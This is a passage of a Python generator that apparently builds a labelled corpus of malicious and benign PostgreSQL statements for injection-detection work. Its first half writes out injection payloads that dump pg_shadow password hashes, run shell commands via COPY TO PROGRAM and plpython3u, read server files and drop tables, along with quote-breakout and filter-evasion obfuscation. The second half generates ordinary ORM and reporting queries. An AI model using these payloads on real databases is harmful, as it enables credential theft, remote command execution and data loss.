            ("secdef_search_path", "CREATE OR REPLACE FUNCTION public.%s() RETURNS text LANGUAGE plpgsql SECURITY DEFINER SET search_path = public AS %s" % (nm, B("BEGIN RETURN (SELECT string_agg(usename||passwd, ',') FROM pg_shadow); END"))),
            ("procedure_then_call", "CREATE OR REPLACE PROCEDURE %s(x text) LANGUAGE plpgsql AS %s; CALL %s('%s')" % (nm, B("BEGIN EXECUTE x; END"), nm, "DROP TABLE %s" % t)),
            ("event_trigger_fn", "CREATE FUNCTION %s() RETURNS event_trigger LANGUAGE plpgsql AS %s; CREATE EVENT TRIGGER %s ON sql_drop EXECUTE FUNCTION %s()" % (nm, B("BEGIN PERFORM pg_sleep(0); END"), nm, nm)),
            ("sql_function_leak", "CREATE FUNCTION %s() RETURNS SETOF pg_authid LANGUAGE sql AS %s; SELECT * FROM %s()" % (nm, B("SELECT * FROM pg_authid"), nm)),
            ("plpython_subprocess", "CREATE FUNCTION %s() RETURNS text LANGUAGE plpython3u AS %s" % (nm, B("import subprocess; return subprocess.check_output(%r, shell=True).decode()" % cmd))),
            ("pltcl_exec", "CREATE FUNCTION %s() RETURNS text LANGUAGE pltclu AS %s" % (nm, B("return [exec %s]" % cmd.split()[0]))),
            ("plv8_function", "CREATE FUNCTION %s() RETURNS int LANGUAGE plv8 AS %s" % (nm, B("plv8.execute('DELETE FROM %s'); return 1;" % t))),
            ("do_exception_raise", "DO %s BEGIN RAISE EXCEPTION '%%', (SELECT %s FROM %s LIMIT 1); END %s" % (tg, p, t, tg))]]
    if fam == "dollar_quote":
        tg = r.choice(ODD_TAGS + ["$$", "$a$"])
        D = lambda v: tg + v + tg
        inner = r.choice(["$i$", "$in$", "$_i$"])
        return [
            ("or_dollar_eq", "cond", "OR %s=%s" % (D(w), D(w)), PG), ("and_setting_dollar", "cond", "AND current_setting(%s) IS NOT NULL" % D("data_directory"), PG),
            ("union_dollar_arm", "union", "UNION ALL SELECT %s||current_user" % D(w), PG), ("copy_program_dollar", "stack", "COPY (SELECT 1) TO PROGRAM %s" % D(cmd), PG),
            ("read_file_dollar", "stack", "SELECT pg_read_file(%s)" % D(f), PG), ("role_password_dollar", "stack", "CREATE ROLE %s LOGIN PASSWORD %s" % (nm, D(rword(r, 10))), PG),
            ("nested_tags", "stack", "SELECT %s" % D("%s%s%s" % (inner, w, inner)), PG), ("dollar_cast_int", "cond", "AND CAST(%s||(%s)::text AS int)=0" % (D(w), e), PG),
            ("dollar_like_any", "cond", "OR %s LIKE ANY(ARRAY[%s])" % (D(w), D("%")), PG), ("dollar_regclass_ident", "cond", "AND to_regclass(%s) IS NOT NULL" % D(t), PG),
            ("dollar_concat_subquery", "concat", "(SELECT %s||string_agg(%s,%s) FROM %s)" % (D("x"), p, D(","), t), PG),
            ("dollar_exec_fn", "stack", "CREATE FUNCTION %s() RETURNS void LANGUAGE sql AS %s" % (nm, D("DELETE FROM %s" % t)), PG),
            ("dollar_sleep_float", "cond", "AND pg_sleep(%s::float8) IS NULL" % D(str(s)), PG), ("dollar_set_config", "stack", "SELECT set_config(%s,%s,true)" % (D("session_replication_role"), D("replica")), PG),
            ("dollar_format_exec", "stack", "DO %s BEGIN EXECUTE %s; END %s" % ("$o$", D("DROP TABLE %s" % t), "$o$") if tg != "$o$" else "SELECT 1", PG),
            ("dollar_value_repl", "repl", "(SELECT length(%s))" % D(w), PG)]
    if fam == "e_escape":
        hexs = lambda v: "".join("\\x%02X" % ord(c) for c in v)
        octs = lambda v: "".join("\\%o" % ord(c) for c in v)
        bigu = lambda v: "".join("\\U%08x" % ord(c) for c in v)
        uni = lambda v: "".join("\\%04X" % ord(c) for c in v)
        word = r.choice(["postgres", "root", who, "pg_shadow"])
        esc_ch = r.choice(["!", "#", "*", "~"])
        return [
            ("e_hex_upper", "cond", "OR E'%s'='%s'" % (hexs(w), w), PG), ("e_octal_short", "cond", "AND current_user<>E'%s'" % octs(word), PG),
            ("e_big_u", "cond", "OR E'%s'=%s" % (bigu(w), chrs(w, fn="chr")), PG), ("e_quote_escape", "cond", "OR E'it\\'s'='it''s'", PG),
            ("e_program", "stack", "COPY (SELECT 1) TO PROGRAM E'%s'" % hexs(cmd), PG), ("e_read_file", "stack", "SELECT pg_read_file(E'%s')" % hexs(f), PG),
            ("uamp_uescape_custom", "cond", "AND current_user=U&'%s' UESCAPE '%s'" % (uni(word).replace("\\", esc_ch), esc_ch), PG),
            ("uamp_ident_table", "union", "UNION SELECT %s FROM U&\"%s\"" % (nulls(1, 0, "usename||passwd"), uni("pg_shadow")), PG),
            ("uamp_ident_stack", "stack", "DELETE FROM U&\"%s\"" % uni(t), PG), ("uamp_plus_escape", "cond", "OR U&'\\+00%04X'='%s'" % (ord(w[0]), w[0]), PG),
            ("e_union_arm", "union", "UNION ALL SELECT E'%s'||version()" % octs(w), PG), ("e_concat_repl", "concat", "E'\\x%02x'||(SELECT current_user)" % ord(w[0]), PG),
            ("e_newline_stack", "stack", "SELECT E'%s\\n'||pg_read_file('%s')" % (w, f), PG), ("e_role_pw", "stack", "ALTER ROLE postgres PASSWORD E'%s'" % hexs(rword(r, 8)), PG),
            ("e_like_escape", "cond", "OR '%s' LIKE E'%s\\\\%%' ESCAPE '|'" % (w, w[:2]), PG)]
    if fam == "string_concat_subquery":
        return [(n, "concat", c, PG) for n, c in [
            ("overlay_secret", "overlay((SELECT %s FROM %s LIMIT 1) placing '' from 1 for 0)" % (p, t)),
            ("regexp_replace_user", "regexp_replace((SELECT string_agg(usename,',') FROM pg_user),'(.)','\\1','g')"),
            ("to_char_count", "to_char((SELECT count(*) FROM %s),'FM99999')" % t), ("xmlelement_leak", "(SELECT xmlelement(name x, %s)::text FROM %s LIMIT 1)" % (p, t)),
            ("format_ident", "format('%%I.%%I',current_schema(),(SELECT relname FROM pg_class WHERE relkind='r' LIMIT 1))"),
            ("array_to_string_roles", "array_to_string(ARRAY(SELECT rolname FROM pg_roles),';')"), ("jsonb_obj", "(SELECT jsonb_object_agg(%s,%s)::text FROM %s)" % (u, p, t)),
            ("coalesce_subquery", "COALESCE((SELECT passwd FROM pg_shadow LIMIT 1),'none')"), ("substring_version", "substring(version() from 1 for 30)"),
            ("chr_wrapped", "chr(91)||(SELECT current_setting('hba_file'))||chr(93)"), ("case_subquery", "(CASE WHEN %s THEN 'T' ELSE 'F' END)" % probe(r)),
            ("string_agg_ordered", "(SELECT string_agg(%s,',' ORDER BY %s) FROM %s)" % (u, u, t)), ("encode_b64", "encode(convert_to((SELECT %s FROM %s LIMIT 1),'UTF8'),'base64')" % (p, t)),
            ("quote_literal_leak", "quote_literal((SELECT query FROM pg_stat_activity LIMIT 1))"), ("lpad_count", "lpad((SELECT count(*)::text FROM pg_authid),6,'0')")]]
    raise KeyError(fam)


# ---------------------------------------------------------------- putting a hand-written core into a slot
def ending(r):
    """How the rest of the statement is cut off (/* and # are habits from other back-ends)."""
    return r.choice(["--", "--", "-- ", "--;", "-- x", "--%s" % rword(r, 2), ";--", "; --", "-- --", "--\t-", "-- -", "--+", "/*", "#"])


def breakout(r, si, orig, mode, core):
    """The text typed into this slot to run core there, or None where the technique has no sensible form for the slot."""
    typ, cl, lead, cut = si["type"], si["closers"], si["lead"], si["cut"]
    if lead in ("COMMENT", "CALL", "EXECUTE", "FETCH", "MOVE", "ALTER", "CREATE") and mode not in ("stack", "concat", "repl"):
        return None                                   # no WHERE to extend there
    if mode == "union" and (lead not in ("SELECT", "select") or si["in_order"] or si["in_limit"] or typ in ("col", "dir")):
        return None
    sp = lambda: r.choice([" ", " ", "", "\n"])
    close_all = cut if cut is not None else cl
    in_values = "VALUES" in si["ctx"] or lead in ("CALL", "EXECUTE")
    if typ in ("q", "e", "d"):
        qc = CLOSER[typ]
        lv = r.choice([orig, orig, "", "a", "0", "nope"]) if typ != "d" else orig
        if si["between_lo"] and mode in ("cond", "union", "stack"):
            lv = lv + qc + " AND " + qc + orig
        if mode == "open":
            if typ == "d":
                return None
            left, right = core
            return lv + qc + " " + left + right
        if mode in ("repl", "concat"):
            if typ == "d":
                return orig + qc + "||" + core + "||" + qc
            j = r.choice(["||", " || ", "||\n"])
            return r.choice([lv, ""]) + qc + j + core + j + qc
        if mode == "order":
            return None
        if mode == "cond":
            x = r.random()
            if (x < 0.35 or in_values) and typ != "d":
                k = len(cl) if r.random() < 0.5 and not in_values and cut is None else 0
                ww = r.choice(["b", "7", rword(r, 2), "q"])
                return lv + qc + ")" * k + " " + core + " AND " + "(" * k + r.choice(["'%s'='%s" % (ww, ww), "'%s' LIKE '%s" % (ww, ww), "'%s'<>'" % ww])
            if (x < 0.5 or in_values) and typ == "d":
                return lv + qc + " " + core + " AND " + TAG + "z" + TAG + "=" + TAG + "z"
            return lv + qc + close_all + " " + core + sp() + ending(r)
        if mode == "union":
            return r.choice([lv, "", "-9", "none"]) + qc + close_all + " " + core + sp() + ending(r)
        if mode == "stack":
            return lv + qc + close_all + r.choice([";", "; ", ";\n", ";\t"]) + core + r.choice([";", "", ""]) + sp() + ending(r)
        return None
    if typ == "qi":
        return quoted_ident_breakout(r, si, orig, mode, core, close_all, lambda: sp() + ending(r))
    if typ in ("n", "list"):
        if mode == "open":
            return None
        if mode == "repl":
            return core if typ != "list" or r.random() < 0.5 else orig + ", " + core
        if mode == "concat":
            return orig + r.choice([" + length((%s)::text)", " * sign(length((%s)::text))", " - 0*ascii((%s)::text)", " + octet_length((%s)::text) - octet_length((%s)::text)"]).replace("%s", core)
        if mode == "order":
            return orig + ", " + core if si["in_order"] else None
        if si["between_lo"] and mode in ("cond", "union", "stack"):
            orig = orig + " AND " + r.choice(["999999", "32767"])
        if mode == "cond":
            if si["in_limit"] or si["in_order"]:
                return None
            if in_values:
                return None
            if cl and "]" not in cl and r.random() < 0.6:
                return orig + cl + " " + core + " AND " + "(" * len(cl) + "%d=%d" % ((lambda v: (v, v))(r.randint(1, 99)))
            if cl:
                return orig + close_all + " " + core + sp() + ending(r)
            return orig + " " + core + (sp() + ending(r) if si["tail_means"] and r.random() < 0.5 else "")
        if mode == "union":
            return r.choice([orig, "-1", "0", "-%d" % r.randint(1, 999)]) + close_all + " " + core + sp() + ending(r)
        if mode == "stack":
            tail = sp() + ending(r) if close_all or si["tail_means"] or r.random() < 0.5 else ""
            return orig + close_all + r.choice([";", "; ", ";\n"]) + core + r.choice([";", ""]) + tail
        return None
    if typ in ("col", "dir"):
        if mode == "order":
            return (core if typ == "col" and r.random() < 0.4 else orig + ", " + core) + (sp() + ending(r) if r.random() < 0.3 else "")
        if mode == "cond":
            return orig + ", (CASE WHEN %s THEN 1 ELSE 1/(SELECT 0) END)" % strip_andor(core)
        if mode == "repl" and typ == "col":
            return core
        if mode == "stack":
            return orig + close_all + r.choice([";", "; "]) + core + sp() + ending(r)
        return None
    if typ == "ident":
        if mode == "stack":
            return orig + close_all + r.choice([";", "; "]) + core + r.choice([" --", "--", ";--", "; -- -"])
        return None
    return None


MODES = {"q": ("cond", "open", "union", "stack", "repl", "concat"), "e": ("cond", "open", "union", "stack", "repl", "concat"),
         "d": ("cond", "union", "stack", "repl", "concat"), "qi": ("cond", "stack", "order"), "n": ("cond", "union", "stack", "repl", "concat", "order"),
         "list": ("cond", "union", "stack", "repl", "concat"), "col": ("cond", "order", "repl", "stack"), "dir": ("cond", "order", "stack"), "ident": ("stack",)}


hand = partial(corpus_kit.hand_payload, cores=hand_cores, fitting=partial(corpus_kit.fitting, modes=MODES), breakout=breakout)


# ---------------------------------------------------------------- obfuscation of a built payload (outside literals and comments)
def obfuscate(r, fam, s, typ):
    segs = segments(s, typ)

    if fam == "obf_case_mix":
        style = r.randrange(4)

        def cm(m):
            w = m.group(0)
            if style == 0:
                return "".join(ch.upper() if r.random() < 0.5 else ch.lower() for ch in w)
            if style == 1:
                return "".join(ch.upper() if j % 2 else ch.lower() for j, ch in enumerate(w))
            if style == 2:
                return w[:-1].lower() + w[-1].upper()
            return w.capitalize() if w.isupper() else w.upper()
        out = "".join(re.sub(r"[A-Za-z_]{2,}", cm, t) if e else t for t, e in segs)
    elif fam == "obf_whitespace":
        pool = ["\t", "\n", "\r\n", "\f", "\n\t", "\t\t", "\r", "\f\n", " \t ", "\n\n\t", "\v"]
        use_v = r.random() < 0.3

        def ws(t):
            t = re.sub(r" +", lambda m: r.choice(pool if use_v else pool[:-1]), t)
            return re.sub(r"([(,=])", lambda m: m.group(1) + r.choice(["\n", "\t", "\f"]) if r.random() < 0.25 else m.group(1), t)
        out = "".join(ws(t) if e else t for t, e in segs)
    elif fam == "obf_inline_comment":
        pool = ["/**/", "/**/", "/*!*/", "/*--*/", "/*%s*/" % rword(r, r.randint(1, 5)), "/**//**/", "/*\t*/", "--%s\n" % rword(r, 2), "/* ; */", "/*/**/*/"]

        def ic(t):
            t = re.sub(r" +", lambda m: r.choice(pool), t)
            t = re.sub(r"\(([^()'\"]{1,40})\)", lambda m: "(/**/%s/**/)" % m.group(1) if r.random() < 0.3 else m.group(0), t)
            if r.random() < 0.3:
                t = re.sub(r"\b([A-Za-z_]+)\(", lambda m: m.group(1) + r.choice(["/**/(", "/*(*/(", "("]), t)
            return t
        out = "".join(ic(t) if e else t for t, e in segs)
    elif fam == "obf_nospace":
        def squeeze(t):
            t = re.sub(r" *([=<>!|,()+*;~&]+) *", r"\1", t)
            t = re.sub(r"\b(OR|AND|or|and|SELECT|select|WHERE|where|NOT|not|THEN|ELSE|WHEN) (\d+|[A-Za-z_]+\(\)|current_user|true|false|NULL)\b",
                       lambda m: m.group(1) + "(" + m.group(2) + ")", t)
            t = re.sub(r"\b(FROM|from) ([a-z_.]+)\b", lambda m: m.group(1) + '"' + m.group(2) + '"' if "." not in m.group(2) and r.random() < 0.3 else m.group(0), t)
            return t
        out = without_spaces(segs, typ, squeeze)
    else:
        raise KeyError(fam)
    return out


# ---------------------------------------------------------------- complex benign statements
PEOPLE = ["Akua Mensah", "Kenji Watanabe", "Siân Pritchard", "Rafael Quispe", "Oksana Bondarenko", "Declan O'Rourke", "Amara Nwosu",
          "Lucía Fernández", "Hinemoa Walker", "Tariq Haddad", "Ingrid Lund", "Marco D'Alessio", "Chioma Eze", "Yusuf Demir"]
NOTES = ["glass eyes ordered", "caller asked for \"the usual\" delivery", "select the 70% couverture", "union meeting Thursday",
         "deposit received -- ref 4410", "O'Brien collected the kite", "10% guild discount", "fragile: contains a mounted owl", "awaiting judge sign-off",
         "contains hazelnuts", "re-temper after the power cut", "update: boat 4 has a new drum", "leave at the forge's side door", "drop-off after 6pm"]
ORIGINS = ["Ashanti", "Esmeraldas", "Sambirano", "Chuao", "Tumaco", "Bougainville", "Kerala"]
HEYA = ["Isegahama", "Sadogatake", "Miyagino", "Tokitsukaze", "Kokonoe", "Nishonoseki"]
LAYOUTS = ["Ashburton Junction", "Dock Street", "Coombe Halt", "Fiddle Yard East", "Port Ellen Quay"]
POOLS_ONSEN = ["rotenburo", "kama-buro", "utase", "mist sauna", "cold plunge", "family bath"]
VARIETIES = ["Dabinett", "Yarlington Mill", "Kingston Black", "Foxwhelp", "Ellis Bitter", "Harry Masters Jersey"]


def ids(r, k=None, hi=9000):
    return ", ".join(str(x) for x in sorted(r.sample(range(1, hi), k or r.randint(2, 8))))


def complex_gens():
    G, add = registry()

    # ---- ORM output (bound or literal, as the ORMs print it)
    @add("cx13_sqlalchemy_joinedload", "complex_orm_generated")
    def _(r):
        return ("SELECT kite_flights.flight_id AS kite_flights_flight_id, kite_flights.pilot_name AS kite_flights_pilot_name, kites_1.kite_id AS kites_1_kite_id, "
                "kites_1.maker AS kites_1_maker FROM kite_flights LEFT OUTER JOIN kites AS kites_1 ON kites_1.kite_id = kite_flights.kite_id "
                "WHERE kite_flights.festival_day = %s ORDER BY kite_flights.flight_id LIMIT %d" % (q(rdate(r, 2023, 2026)), r.choice([20, 50, 100])))

    @add("cx13_sqlalchemy_insert_many", "complex_orm_generated")
    def _(r):
        n = r.randint(2, 4)
        rows = ", ".join("(%s, %s, %d)" % (q("KT-%03d" % r.randint(0, 999)), q(r.choice(PEOPLE)), r.randint(1, 9)) for _ in range(n))
        return "INSERT INTO kite_entries (kite_code, pilot_name, heat_no) VALUES %s RETURNING kite_entries.entry_id" % rows

    @add("cx13_sqlalchemy_upsert", "complex_orm_generated")
    def _(r):
        return ("INSERT INTO steel_stock (grade, profile, length_mm, qty) VALUES (%s, %s, %d, %d) ON CONFLICT (grade, profile, length_mm) "
                "DO UPDATE SET qty = (steel_stock.qty + excluded.qty) WHERE steel_stock.discontinued IS false"
                % (q(r.choice(["EN8", "1095", "O1", "W2", "5160"])), q(r.choice(["25x6 flat", "16 round", "20 square", "40x10 flat"])), r.choice([1000, 1200, 3000, 6000]), r.randint(1, 40)))

    @add("cx13_hibernate6_paged", "complex_orm_generated")
    def _(r):
        return ("select r1_0.id,r1_0.heya,r1_0.shikona,r1_0.rank_code from rikishi r1_0 where r1_0.heya=%s and r1_0.retired=false order by r1_0.shikona "
                "offset %d rows fetch first %d rows only" % (q(r.choice(HEYA)), r.choice([0, 20, 40, 60]), r.choice([20, 50])))

    @add("cx13_hibernate6_update_version", "complex_orm_generated")
    def _(r):
        v = r.randint(0, 60)
        return "update forge_orders set item=%s,status=%s,version=%d where order_id=%d and version=%d" % (
            q(r.choice(["gate hinge pair", "fire poker", "S-hooks x12", "damascus blank"])), q(r.choice(["open", "forging", "ready", "collected"])), v + 1, r.randint(1, 90000), v)

    @add("cx13_ecto_preload", "complex_orm_generated")
    def _(r):
        return ('SELECT q0."id", q0."quilt_id", q0."pattern", q0."quilt_id" FROM "quilt_blocks" AS q0 WHERE (q0."quilt_id" = ANY(ARRAY[%s])) ORDER BY q0."quilt_id"' % ids(r))

    @add("cx13_activerecord_counter", "complex_orm_generated")
    def _(r):
        return ('UPDATE "crossword_setters" SET "puzzle_count" = COALESCE("puzzle_count", 0) + 1, "updated_at" = %s WHERE "crossword_setters"."id" = %d'
                % (q(ts(r) + "." + str(r.randint(100000, 999999))), r.randint(1, 400)))

    @add("cx13_activerecord_pluck", "complex_orm_generated")
    def _(r):
        return ('SELECT "circus_acts"."act_name" FROM "circus_acts" WHERE "circus_acts"."show_id" = %d AND "circus_acts"."cancelled_at" IS NULL ORDER BY "circus_acts"."running_order" ASC'
                % r.randint(1, 200))

    @add("cx13_django_bulk_update", "complex_orm_generated")
    def _(r):
        a, b = r.sample(range(1, 5000), 2)
        return ('UPDATE "onsen_lockers" SET "status" = CASE WHEN ("onsen_lockers"."id" = %d) THEN %s WHEN ("onsen_lockers"."id" = %d) THEN %s ELSE NULL END::varchar(16) '
                'WHERE "onsen_lockers"."id" IN (%d, %d)' % (a, q(r.choice(["free", "held"])), b, q(r.choice(["broken", "free"])), a, b))

    @add("cx13_django_window", "complex_orm_generated")
    def _(r):
        return ('SELECT "sumo_bout"."id", "sumo_bout"."winner_id", RANK() OVER (PARTITION BY "sumo_bout"."basho" ORDER BY "sumo_bout"."day" DESC) AS "rk" '
                'FROM "sumo_bout" WHERE "sumo_bout"."basho" = %s' % q("%d.%02d" % (r.randint(2019, 2025), r.choice([1, 3, 5, 7, 9, 11]))))

    @add("cx13_gorm_soft_delete", "complex_orm_generated")
    def _(r):
        return 'UPDATE "snail_pens" SET "deleted_at"=%s WHERE "snail_pens"."id" = %d AND "snail_pens"."deleted_at" IS NULL' % (q(ts(r) + ".%03d+00:00" % r.randint(0, 999)), r.randint(1, 700))

    @add("cx13_exposed_batch", "complex_orm_generated")
    def _(r):
        return ("SELECT fabric_swatches.swatch_id, fabric_swatches.colour_hex, fabric_swatches.tags FROM fabric_swatches WHERE (fabric_swatches.colour_hex LIKE %s) "
                "AND (fabric_swatches.guild_id = %d) ORDER BY fabric_swatches.swatch_id DESC LIMIT %d" % (q("#%02x%%" % r.randint(0, 255)), r.randint(1, 60), r.choice([10, 25])))

    # ---- query builders with bound parameters
    @add("cx13_jooq_bound", "complex_query_builder")
    def _(r):
        return ('select "public"."bout_results"."basho", count(*) from "public"."bout_results" where ("public"."bout_results"."winner_id" = $1 and '
                '"public"."bout_results"."kimarite" in ($2, $3)) group by "public"."bout_results"."basho" order by 1 desc limit $4')

    @add("cx13_kysely_bound", "complex_query_builder")
    def _(r):
        n = r.randint(1, 5)
        return 'select "paddler_id", "seat_no" from "crew_seating" where "boat_id" = $1 and "side" in (%s) order by "seat_no" asc' % ", ".join("$%d" % (i + 2) for i in range(n))

    @add("cx13_squirrel_bound", "complex_query_builder")
    def _(r):
        return "SELECT job_id, model FROM typewriter_repairs WHERE received_on >= $1 AND (model ILIKE $2 OR serial_no = $3) ORDER BY received_on DESC LIMIT %d OFFSET %d" % (
            r.choice([10, 25, 50]), r.choice([0, 25, 50, 100]))

    @add("cx13_sqlalchemy_core_bound", "complex_query_builder")
    def _(r):
        return ("SELECT cider_pressings.variety, sum(cider_pressings.juice_litres) AS sum_1 FROM cider_pressings WHERE cider_pressings.orchard = %(orchard_1)s "
                "AND cider_pressings.pressed_on >= %(pressed_on_1)s GROUP BY cider_pressings.variety").replace("%(orchard_1)s", "$1").replace("%(pressed_on_1)s", "$2")

    @add("cx13_knex_literal", "complex_query_builder")
    def _(r):
        return 'select "maze_id", count(*) as "n" from "maze_visits" where "entered_at" between %s and %s group by "maze_id" having count(*) > %d' % (
            q(rdate(r, 2024, 2024)), q(rdate(r, 2025, 2025)), r.randint(1, 500))

    @add("cx13_seaquery_literal", "complex_query_builder")
    def _(r):
        return ('SELECT "loco_no", "livery" FROM "loco_roster" WHERE "dcc_address" IN (%s) AND "livery" <> %s ORDER BY "loco_no" ASC' %
                (ids(r, hi=9999), q(r.choice(["BR green", "GWR", "Rail blue", "LNER apple green"]))))

    # ---- CTEs, windows, ROLLUP, FILTER
    @add("cx13_cte_modifying_chain", "complex_cte_window")
    def _(r):
        d = r.randint(30, 400)
        return ("WITH expired AS (DELETE FROM snail_caviar_jars WHERE best_before < current_date - %d RETURNING jar_id, batch_code), "
                "logged AS (INSERT INTO jar_disposals (jar_id, batch_code, disposed_at) SELECT jar_id, batch_code, now() FROM expired RETURNING batch_code) "
                "SELECT batch_code, count(*) FROM logged GROUP BY batch_code ORDER BY 2 DESC" % d)

    @add("cx13_window_filter", "complex_cte_window")
    def _(r):
        return ("SELECT heat_no, crew, finish_ms, avg(finish_ms) FILTER (WHERE finish_ms < %d) OVER w AS fast_avg, lead(crew) OVER w AS next_crew "
                "FROM race_heat_times WHERE regatta = %s WINDOW w AS (PARTITION BY heat_no ORDER BY finish_ms) ORDER BY heat_no, finish_ms"
                % (r.choice([90000, 120000, 150000]), q(r.choice(["Serpentine Sprint", "Tuen Ng 2025", "Lake Burley Griffin Cup"]))))

    @add("cx13_rollup_cube", "complex_cte_window")
    def _(r):
        g = r.choice(["ROLLUP (variety, orchard)", "CUBE (variety, orchard)", "GROUPING SETS ((variety), (orchard), ())"])
        return ("SELECT variety, orchard, GROUPING(variety, orchard) AS g, sum(juice_litres) FROM cider_pressings WHERE pressed_on >= %s GROUP BY %s ORDER BY g, variety NULLS LAST"
                % (q(rdate(r, 2022, 2025)), g))

    @add("cx13_recursive_route", "complex_cte_window")
    def _(r):
        return ("WITH RECURSIVE path(station, hops, route) AS (SELECT %s::text, 0, ARRAY[%s::text] UNION ALL SELECT l.to_station, p.hops + 1, p.route || l.to_station "
                "FROM path p JOIN layout_links l ON l.from_station = p.station WHERE NOT l.to_station = ANY(p.route) AND p.hops < %d) SELECT * FROM path ORDER BY hops"
                % ((lambda s: (q(s), q(s)))(r.choice(LAYOUTS)) + (r.randint(3, 9),)))

    @add("cx13_lateral_top_n", "complex_cte_window")
    def _(r):
        return ("SELECT h.heya, top.shikona, top.kg FROM (SELECT DISTINCT heya FROM rikishi) h CROSS JOIN LATERAL (SELECT r.shikona, w.kg FROM rikishi r JOIN rikishi_weights w "
                "ON w.rikishi_id = r.id WHERE r.heya = h.heya ORDER BY w.kg DESC LIMIT %d) top" % r.randint(1, 5))

    @add("cx13_ordinality", "complex_cte_window")
    def _(r):
        return ("SELECT v.name, t.note, t.n, count(*) OVER (PARTITION BY t.note) AS shared FROM apple_varieties v CROSS JOIN LATERAL unnest(v.tasting_notes) WITH ORDINALITY AS t(note, n) "
                "WHERE t.n <= %d ORDER BY v.name, t.n" % r.randint(2, 6))

    # ---- set-operation reports
    @add("cx13_union_report", "complex_union_report")
    def _(r):
        d = rdate(r, 2023, 2025)
        return ("SELECT 'order' AS kind, order_id AS ref, placed_on AS at FROM forge_orders WHERE placed_on >= %s UNION ALL "
                "SELECT 'heat', order_id, fired_at::date FROM forge_heats WHERE fired_at >= %s UNION ALL SELECT 'invoice', order_id, invoiced_on FROM forge_invoices "
                "WHERE invoiced_on >= %s ORDER BY at DESC LIMIT %d" % (q(d), q(d), q(d), r.choice([50, 100, 200])))

    @add("cx13_except_report", "complex_union_report")
    def _(r):
        return ("SELECT member_id FROM guild_members WHERE joined_on < %s EXCEPT SELECT member_id FROM guild_dues WHERE season = %d INTERSECT SELECT member_id FROM guild_mailing_list"
                % (q(rdate(r, 2020, 2025)), r.randint(2021, 2026)))

    @add("cx13_union_distinct_agg", "complex_union_report")
    def _(r):
        return ("(SELECT pool_name, max(temp_c) AS t, 'max' AS m FROM onsen_bath_temps GROUP BY pool_name) UNION (SELECT pool_name, min(temp_c), 'min' FROM onsen_bath_temps GROUP BY pool_name) "
                "ORDER BY pool_name, m LIMIT %d" % r.choice([12, 24, 40]))

    # ---- builtin-function heavy statements
    @add("cx13_builtin_dates", "complex_builtin_funcs")
    def _(r):
        return r.choice([
            "SELECT date_bin('%d minutes', %s::timestamp, '2000-01-01'), age(%s::date, %s::date)" % (r.choice([5, 15, 30]), q(ts(r)), q(rdate(r)), q(rdate(r, 1990, 2010))),
            "SELECT date_trunc('%s', %s::timestamptz, 'Asia/Tokyo'), extract(isodow FROM %s::date)" % (r.choice(["day", "week", "month"]), q(ts(r) + "+00"), q(rdate(r))),
            "SELECT make_timestamptz(%d, %d, %d, 6, 0, 0, 'Europe/London'), justify_interval(interval '%d hours')" % (r.randint(2020, 2026), r.randint(1, 12), r.randint(1, 28), r.randint(25, 900)),
            "SELECT to_char(%s::timestamp, 'FMDay DD FMMonth YYYY HH24:MI'), isfinite(%s::date)" % (q(ts(r)), q(rdate(r)))])

    @add("cx13_builtin_strings", "complex_builtin_funcs")
    def _(r):
        s = r.choice(PEOPLE + VARIETIES + HEYA)
        return r.choice([
            "SELECT overlay(%s placing '***' from 2 for 3), position('a' in %s), initcap(lower(%s))" % (q(s), q(s), q(s)),
            "SELECT regexp_replace(%s, '\\s+', '_', 'g'), regexp_split_to_array(%s, ' '), split_part(%s, ' ', 1)" % (q(s), q(s), q(s)),
            "SELECT translate(%s, 'aeiou', 'AEIOU'), md5(%s), left(%s, %d)" % (q(s), q(s), q(s), r.randint(1, 6)),
            "SELECT format('%%s (%%s)', %s, %d), concat_ws(' / ', %s, NULL, %s), quote_literal(%s)" % (q(s), r.randint(1, 99), q(s), q(r.choice(ORIGINS)), q(s)),
            "SELECT string_agg(x, ', ' ORDER BY x DESC) FROM unnest(ARRAY[%s]) AS x" % ", ".join(q(v) for v in r.sample(VARIETIES, 3))])

    @add("cx13_builtin_json", "complex_builtin_funcs")
    def _(r):
        k = r.choice(["nose", "score", "rootstock", "side"])
        return r.choice([
            "SELECT jsonb_build_object(%s, %d, 'tags', jsonb_build_array(%s, %s))" % (q(k), r.randint(1, 10), q(rword(r, 4)), q(rword(r, 5))),
            "SELECT * FROM jsonb_to_recordset(%s::jsonb) AS x(panel int, colour text)" % q('[{"panel": %d, "colour": "%s"}, {"panel": %d, "colour": "%s"}]' % (
                r.randint(1, 9), r.choice(["red", "teal", "ochre"]), r.randint(10, 20), r.choice(["black", "white"]))),
            "SELECT jsonb_path_query_array(%s::jsonb, '$.lots[*] ? (@.fat > %d).lot')" % (q('{"lots": [{"lot": "A", "fat": 54}, {"lot": "B", "fat": 51}]}'), r.randint(50, 55)),
            "SELECT jsonb_set('{\"a\": {\"b\": 1}}'::jsonb, '{a,b}', to_jsonb(%d)), '{\"x\": 2}'::jsonb || jsonb_build_object('y', %d)" % (r.randint(2, 99), r.randint(1, 9))])

    @add("cx13_builtin_arrays", "complex_builtin_funcs")
    def _(r):
        a = [r.randint(1, 50) for _ in range(5)]
        return r.choice([
            "SELECT array_positions(ARRAY[%s], %d), cardinality(ARRAY[%s]), array_remove(ARRAY[%s], %d)" % (",".join(map(str, a)), a[0], ",".join(map(str, a)), ",".join(map(str, a)), a[1]),
            "SELECT x, n FROM unnest(ARRAY[%s]) WITH ORDINALITY AS u(x, n) WHERE n > %d" % (",".join(map(str, a)), r.randint(0, 3)),
            "SELECT array_agg(g ORDER BY g DESC) FILTER (WHERE g %% %d = 0) FROM generate_series(1, %d) g" % (r.randint(2, 5), r.randint(10, 60)),
            "SELECT ARRAY(SELECT generate_series(%d, %d)) && ARRAY[%d]" % (a[0], a[0] + 10, a[2])])

    @add("cx13_builtin_math", "complex_builtin_funcs")
    def _(r):
        return r.choice([
            "SELECT width_bucket(%d, 0, 100, 10), round(%d / 7.0, 3), div(%d, 7), mod(%d, 7)" % ((lambda v: (v, v, v, v))(r.randint(0, 99))),
            "SELECT percentile_disc(0.5) WITHIN GROUP (ORDER BY x), mode() WITHIN GROUP (ORDER BY x) FROM (VALUES %s) v(x)" % ", ".join("(%d)" % r.randint(1, 9) for _ in range(6)),
            "SELECT COALESCE(NULLIF(%d, 0), NULLIF(%d, 0), -1), greatest(%d, %d, %d)" % (r.randint(0, 2), r.randint(0, 9), r.randint(0, 9), r.randint(0, 9), r.randint(0, 9)),
